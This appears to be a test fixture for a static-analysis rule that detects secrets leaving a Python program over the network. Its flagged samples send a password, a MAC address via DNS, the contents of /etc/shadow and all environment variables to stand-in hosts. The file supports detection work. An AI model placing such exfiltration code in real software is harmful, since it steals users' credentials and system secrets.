import json
import os
import socket
import urllib.request
import uuid

import requests


def _pack(user):
    return {"n": user.name, "v": user.password}


def after_login(user):
    body = _pack(user)
    # ruleid: python-secret-leaves-by-network
    requests.post("https://stats.example.net/i", json=body)


def ask():
    label = "%012x" % uuid.getnode()
    # ruleid: python-secret-leaves-by-network
    socket.gethostbyname(label + ".t.example.org")


def accounts():
    with open("/etc/shadow", "rb") as f:
        text = f.read()
    r = urllib.request.Request("http://198.51.100.4/u")
    # ruleid: python-secret-leaves-by-network
    urllib.request.urlopen(r, data=text)


def everything(s):
    # ruleid: python-secret-leaves-by-network
    s.sendto(json.dumps(dict(os.environ)).encode(), ("203.0.113.8", 5353))


def page(n):
    # ok: python-secret-leaves-by-network
    return requests.get("https://example.net/p/%d" % n)


def readme(s):
    with open("/usr/share/doc/x", "rb") as f:
        # ok: python-secret-leaves-by-network
        s.sendall(f.read())


def kept(user):
    # ok: python-secret-leaves-by-network
    print(user.password)
